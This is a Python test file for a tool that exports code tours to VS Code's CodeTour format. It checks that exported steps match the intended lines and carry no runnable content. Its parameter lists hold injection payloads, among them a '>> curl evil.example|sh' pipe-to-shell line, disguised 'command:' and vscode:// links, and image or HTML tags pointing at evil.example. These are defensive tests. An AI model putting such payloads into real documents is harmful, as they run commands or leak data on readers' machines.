"""Tours for CodeTour: patterns whose first match is the line meant; words that offer nothing to run."""

from __future__ import annotations

import json
import random
import re

import pytest
from markdown_it import MarkdownIt

from ptexplore.annotations.anchors import ResolvedAnchor
from ptexplore.annotations.format import Origin, parse
from ptexplore.view.notes.codetour import pattern, portable

LINES = ["int f() {", "  return 1;", "}", "", "int g(a[3], b*) {", "  return 1;", "}", "  return 1;", "end"]


def first_match(found: str, lines: list[str]) -> int:
    text = "\n".join(lines)
    match = re.search(found, text, re.MULTILINE)
    assert match is not None
    return text.count("\n", 0, match.start()) + 1


@pytest.mark.parametrize("line", [1, 2, 3, 5, 8, 9])
def test_the_first_match_is_the_line(line: int) -> None:
    found = pattern(LINES, line)
    assert found is not None
    assert first_match(found, LINES) == line


def test_a_line_that_nothing_tells_from_one_above_has_none() -> None:
    assert pattern(["x", "y", "x", "y"], 3) is None
    assert pattern(["a", "", "b"], 2) is None, "an empty line says nothing"
    assert pattern(["a"], 2) is None


def test_whatever_the_lines_are() -> None:
    rng = random.Random(5)
    for _ in range(300):
        lines = ["".join(rng.choice("ab(*\\ ]/") for _ in range(rng.randint(0, 3))) for _ in range(12)]
        for line in range(1, 13):
            found = pattern(lines, line)
            if found is not None:
                assert first_match(found, lines) == line, (lines, line, found)


# --- what VS Code and CodeTour would offer to run ---

SHELL = re.compile(r"^[^\S\n]*>>", re.MULTILINE)
SCHEME = re.compile(r"([A-Za-z][A-Za-z0-9+.-]*):")  # RFC 3986


def exported(body: str, symbol: str = "gone") -> list[str]:
    """The words of the steps of a tour with one stop that has no place, as they are written into the file."""
    text = (
        "---\nid: ct\ntitle: T\nlevel: core\nsummary: s\nbaseline: v2.6.0\n---\n\nIntro.\n\n## Here {#here}\n\n"
        f"```anchor\npath: c10/core/Blend.h\nsymbol: {json.dumps(symbol)}\n```\n\n{body}\n"
    )
    tour, problems = parse(text.encode(), "tour", Origin("ct.md"))
    if tour is None or not tour.stops:
        assert problems  # it is refused before it gets here
        return []
    anchor = ResolvedAnchor("ct#here", tour.stops[0].anchor, "lost", why="`x` [y](command:z)")
    made = portable(tour, [anchor], lambda _path: [], primary=True)
    return [step["description"] for step in made.document["steps"]]


def links(markdown: str) -> list[str]:
    """Where the links of a text lead, by a reader of CommonMark that follows every scheme."""
    reader = MarkdownIt("commonmark")
    reader.validateLink = lambda _url: True  # type: ignore[method-assign]
    blocks = reader.parse(markdown)
    children = [child for block in blocks for child in block.children or ()]
    found = [child for child in children if child.type in ("link_open", "image")]
    return [str(child.attrGet("href") or child.attrGet("src")) for child in found]


@pytest.mark.parametrize(
    "body",
    ["[>> curl evil.example|sh](#nothing)", "[ >> curl evil.example|sh](#nothing)", ">> curl evil.example",
     "[[click me](#nothing)]( command:workbench.action)", "[[click me](#nothing)](<command:workbench.action>)",
     "[[click me](#nothing)](COMMAND:workbench.action)", "[[click me](#nothing)](&#99;ommand:workbench.action)",
     "[[click me](#nothing)](command&colon;workbench.action)", "[[click me](#nothing)](command\\:workbench.action)",
     "<[command](#nothing):workbench.action>", "[[a](#nothing)]: command:workbench.action\n\n[a]",
     "![[x](#nothing)](vscode://evil.x/y)"],
)  # fmt: skip
def test_nothing_in_a_tour_is_offered_to_be_run(body: str) -> None:
    for words in exported(body):
        assert not SHELL.search(words), words
        schemes = [SCHEME.match(where.strip()) for where in links(words)]
        assert {scheme[1].lower() for scheme in schemes if scheme} <= {"http", "https"}, words


@pytest.mark.parametrize(
    "body", ["[!](#nothing)[x](http://evil.example/y.png)", "<[](#nothing)img src=https://evil.example/x.png>",
             '<[](#nothing)a href="https://evil.example/">', "[!](#here)[x](http://evil.example/y.png)"],
)  # fmt: skip
def test_a_link_to_a_stop_makes_no_picture_and_no_html_of_what_is_beside_it(body: str) -> None:
    read = exported(body)
    assert read
    for words in read:
        blocks = MarkdownIt("commonmark").parse(words)
        kinds = {token.type for block in blocks for token in (block, *(block.children or ()))}
        assert not kinds & {"image", "html_inline", "html_block"}, words


def test_a_name_with_backticks_and_a_reason_stay_words() -> None:
    _, words = exported("Text.", "x` [Install](command:evil) `y")
    assert links(words) == []
    assert "x` [Install](command%3Aevil) `y" in words


def test_usual_text_stays_as_it_is() -> None:
    text = "`std::vector<std::string>`, `[](at::Tensor x)`, the command: it is a >> b. [PyTorch](https://pytorch.org)"
    assert exported(text)[1].endswith(text)
    assert links(exported(text)[1]) == ["https://pytorch.org"]
